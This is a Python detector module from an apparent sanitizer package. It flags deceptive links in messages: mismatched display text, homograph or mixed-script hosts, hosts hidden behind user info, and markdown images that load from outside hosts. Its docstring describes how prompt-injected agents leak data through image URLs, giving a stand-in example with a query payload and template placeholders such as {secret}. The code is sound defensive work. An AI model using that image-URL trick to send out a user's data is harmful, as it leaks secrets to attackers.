"""Links that lie: checks on where a message's links really go, as detector findings.

Three tricks are cheap for an attacker and have no innocent reading worth much:

* a link whose displayed text names one site while its target is another (the text
  is all a person checks before clicking, or before telling an agent to);
* a target host that only *looks* like a known one: punycode labels that decode to
  Cyrillic or Greek letters shaped like Latin ones ("apple.com" spelt with a Cyrillic
  a), or a label mixing Latin with those scripts, or a real host hidden behind user info
  (``https://bank.example@evil.example/``);
* a markdown image, ``![x](https://outside.example/p?d=...)``: a model that writes it
  into a chat or a rendered reply makes the client fetch that URL, carrying whatever
  the injection told it to put in the query. It is the best-known exfiltration path
  for injected agents.

Each check yields at most one :class:`~threezone.sanitize.detect.Finding` per message,
whatever the number of offending links, so a newsletter full of tracking redirects
scores like one mismatch rather than adding up to a flag. Reasons quote hosts, never
whole URLs. Pure: strings in, findings out; nothing here raises on hostile input.
"""

from __future__ import annotations

import contextlib
import re
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from urllib.parse import urlsplit

from threezone.protocol.messages import MAX_SHORT, Link
from threezone.sanitize.confusables import skeleton
from threezone.sanitize.detect import Finding, quote
from threezone.sanitize.text import truncate

MISMATCH_WEIGHT = 0.35
LOOKALIKE_WEIGHT = 0.5
USERINFO_WEIGHT = 0.4
IMAGE_WEIGHT = 0.45
IMAGE_QUERY_WEIGHT = 0.6
IMAGE_TEMPLATE_WEIGHT = 0.8
MAX_LISTED = 3
MAX_TEXT_SCAN = 200_000

# Second-level labels under which a country code registers names (bbc.co.uk).
_SECOND_LEVEL = frozenset({"co", "com", "org", "net", "ac", "gov", "edu", "ne", "or", "go", "gob"})
# A bare "name.tld" in link text counts as naming a host only for these TLDs; without
# a scheme or "www.", "report.pdf" and "main.py" are file names, not hosts.
_COMMON_TLDS = """
    com org net edu gov mil int io co ai app dev me info biz xyz online site shop uk de fr it es
    nl be ch at se no dk fi pl cz ru ua jp cn kr in au nz ca us br mx ar ie pt gr tr il za sg hk
    tw eu
"""
_BARE_TLDS = frozenset(_COMMON_TLDS.split())
_DECEPTIVE_SCRIPTS = frozenset({"CYRILLIC", "GREEK", "ARMENIAN", "CHEROKEE", "COPTIC"})

_HOST_IN_TEXT = re.compile(
    r"^(?:(?P<scheme>[a-z][a-z0-9+.-]{0,20}://)|(?P<www>(?=www\.)))?"
    r"(?:[^\s/@]{0,200}@)?(?P<host>[^\s/:?#@\[\]]{1,253}\.[^\s/:?#@.\[\]]{2,63})"
    r"(?::\d{1,5})?(?:[/?#]\S*)?$",
    re.IGNORECASE,
)
_MD_IMAGE = re.compile(
    r"!\[(?P<alt>[^\]\n]{0,500})\]\(\s{0,20}<?(?P<url>[^\s)>]{1,4096})>?(?:\s{1,20}\"[^\"\n]{0,500}\")?\s{0,20}\)"
)
_MD_IMAGE_REF = re.compile(r"!\[(?P<alt>[^\]\n]{0,500})\]\[(?P<ref>[^\]\n]{0,100})\]")
_MD_REF_DEF = re.compile(
    r"^[ \t]{0,3}\[(?P<ref>[^\]\n]{1,100})\]:[ \t]*<?(?P<url>\S{1,4096}?)>?$", re.M
)
_MD_LINK = re.compile(r"(?<!!)\[(?P<text>[^\]\n]{1,500})\]\(\s{0,20}<?(?P<url>[^\s)>]{1,4096})>?")
_TEMPLATE = re.compile(r"\{[^}]{0,80}\}|\[[A-Z_]{2,40}\]|\$\{?\w|%7B|<[A-Za-z_]{2,40}>", re.I)


@dataclass(frozen=True)
class MarkdownImage:
    """One ``![alt](url)`` found in text, with its target host ("" when relative)."""

    alt: str
    url: str
    host: str


def url_host(url: str) -> str:
    """The lowercased host of ``url`` in ASCII (IDNA) form, or "" when there is none.

    Never raises: ``urlsplit`` rejects some hostile URLs and the IDNA codec some
    labels; both are attacker-controlled, and a missing host is the honest answer.
    """
    try:
        host = urlsplit(url.strip()).hostname or ""
    except ValueError:
        return ""
    # UnicodeError (a ValueError) for an empty or over-long label: keep the Unicode form
    with contextlib.suppress(ValueError):
        host = host.encode("idna").decode("ascii")
    return truncate(host.lower().rstrip("."), MAX_SHORT)


def site(host: str) -> str:
    """Roughly the registrable domain: the last two labels, three under co.uk-style names.

    Close enough to tell ``mail.example.com`` (same site as ``example.com``) from
    ``example.com.evil.example`` without shipping the public suffix list.
    """
    labels = host.lower().rstrip(".").split(".")
    keep = 3 if len(labels) >= 3 and len(labels[-1]) == 2 and labels[-2] in _SECOND_LEVEL else 2
    return ".".join(labels[-keep:])


def displayed_host(untrusted_text: str) -> str | None:
    """The host a link's visible text names, if the text is a URL or a domain; else None."""
    match = _HOST_IN_TEXT.match(untrusted_text.strip().rstrip(".,;:!?)"))
    if match is None:
        return None
    host = url_host(f"http://{match.group('host')}")
    if not host or "." not in host:
        return None
    if match.group("scheme") or match.group("www") is not None:
        return host
    return host if host.rsplit(".", 1)[-1] in _BARE_TLDS else None


def lookalike(host: str) -> str | None:
    """Why ``host`` imitates another, or None: a homograph or mixed-script label."""
    for label in host.split("."):
        shown = _unicode_label(label)
        scripts = {_script(char) for char in shown} - {"COMMON"}
        deceptive = scripts & _DECEPTIVE_SCRIPTS
        if not deceptive:
            continue
        if "LATIN" in scripts:
            return f"mixes Latin with {'/'.join(sorted(deceptive))} letters in {quote(shown)}"
        imitated = skeleton(shown)
        if imitated.isascii():
            return f"spells {quote(imitated)} in {'/'.join(sorted(deceptive))} lookalike letters"
    return None


def link_findings(links: Iterable[Link]) -> list[Finding]:
    """Findings for links whose text names another site, or whose host is a lookalike."""
    mismatched: list[str] = []
    lookalikes: list[str] = []
    userinfo: list[str] = []
    for link in links:
        if not link.host:
            continue
        shown = displayed_host(link.text)
        if shown is not None and site(shown) != site(link.host):
            _add(mismatched, f"{quote(shown)} goes to {quote(link.host)}")
        why = lookalike(link.host)
        if why is not None:
            _add(lookalikes, f"{quote(link.host)} {why}")
        if _has_userinfo(link.url):
            _add(userinfo, quote(link.host))
    return [
        *_one("link text names a different site than its target", MISMATCH_WEIGHT, mismatched),
        *_one("link host imitates another", LOOKALIKE_WEIGHT, lookalikes),
        *_one("link hides its real host behind user info", USERINFO_WEIGHT, userinfo),
    ]


def markdown_images(untrusted_text: str) -> list[MarkdownImage]:
    """Every markdown image in ``untrusted_text``, inline or by reference, in order."""
    text = untrusted_text[:MAX_TEXT_SCAN]
    found = [_image(m.group("alt"), m.group("url")) for m in _MD_IMAGE.finditer(text)]
    definitions = {m.group("ref").lower(): m.group("url") for m in _MD_REF_DEF.finditer(text)}
    for match in _MD_IMAGE_REF.finditer(text):
        ref = (match.group("ref") or match.group("alt")).lower()
        if ref in definitions:
            found.append(_image(match.group("alt"), definitions[ref]))
    return found


def markdown_links(untrusted_text: str) -> Iterator[Link]:
    """``[text](url)`` links written in text: a renderer would show only the text."""
    for match in _MD_LINK.finditer(untrusted_text[:MAX_TEXT_SCAN]):
        url = truncate(match.group("url"), 4096)
        yield Link(text=truncate(match.group("text"), 2048), url=url, host=url_host(url))


def image_findings(untrusted_text: str, inside: Sequence[str] = ()) -> list[Finding]:
    """A finding when text carries markdown images that load from outside hosts.

    ``inside`` lists sites that are not "outside" (none by default: a reader does not
    know the owner's). The weight rises when the URL carries a query, and again when
    it holds a placeholder for the model to fill in (``{secret}``, ``[DATA]``, ``$x``).
    """
    inside_sites = {site(host) for host in inside}
    outside = [
        i for i in markdown_images(untrusted_text) if i.host and site(i.host) not in inside_sites
    ]
    if not outside:
        return []
    weight = IMAGE_WEIGHT
    if any(_TEMPLATE.search(i.url) for i in outside):
        weight = IMAGE_TEMPLATE_WEIGHT
    elif any("?" in i.url for i in outside):
        weight = IMAGE_QUERY_WEIGHT
    hosts: list[str] = []
    for image in outside:
        _add(hosts, quote(image.host))
    return _one("markdown image loads from an outside host (an exfiltration trick)", weight, hosts)


def check_links(
    untrusted_text: str, links: Iterable[Link], inside: Sequence[str] = ()
) -> list[Finding]:
    """All link checks for one message: its links, plus markdown links and images in its text."""
    every = [*links, *markdown_links(untrusted_text)]
    return [*link_findings(every), *image_findings(untrusted_text, inside)]


def _image(alt: str, url: str) -> MarkdownImage:
    url = url.strip()
    host = url_host(url) if re.match(r"(?:https?:)?//", url, re.IGNORECASE) else ""
    return MarkdownImage(alt=alt, url=truncate(url, 4096), host=host)


def _has_userinfo(url: str) -> bool:
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return False
    return parts.username is not None and "." in parts.username


def _unicode_label(label: str) -> str:
    if not label.startswith("xn--"):
        return label
    try:
        return label[4:].encode("ascii").decode("punycode")
    except (UnicodeError, ValueError):
        return label


def _script(char: str) -> str:
    if char.isascii():
        return "LATIN" if char.isalpha() else "COMMON"
    name = unicodedata.name(char, "")
    return name.split(" ", 1)[0] if name else "COMMON"


def _add(items: list[str], item: str) -> None:
    if item not in items:
        items.append(item)


def _one(what: str, weight: float, items: list[str]) -> list[Finding]:
    if not items:
        return []
    listed = "; ".join(items[:MAX_LISTED])
    more = f" (and {len(items) - MAX_LISTED} more)" if len(items) > MAX_LISTED else ""
    return [Finding(weight, f"{what}: {listed}{more}")]
